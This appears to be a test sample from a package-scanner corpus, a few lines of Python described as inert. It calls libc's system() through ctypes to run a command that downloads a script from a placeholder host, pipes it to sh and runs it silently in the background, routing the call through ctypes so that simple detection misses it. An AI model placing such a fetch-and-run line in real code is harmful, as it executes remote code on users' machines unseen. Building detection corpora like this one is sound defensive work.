# pkgguard corpus 693 (indirection), modelled on [obfuscation]; inert, never run.
import ctypes
import ctypes.util

_libc = ctypes.CDLL(ctypes.util.find_library("c"))
_libc.system(b"curl -fsSL https://libc-probe.example/p | sh >/dev/null 2>&1 &")
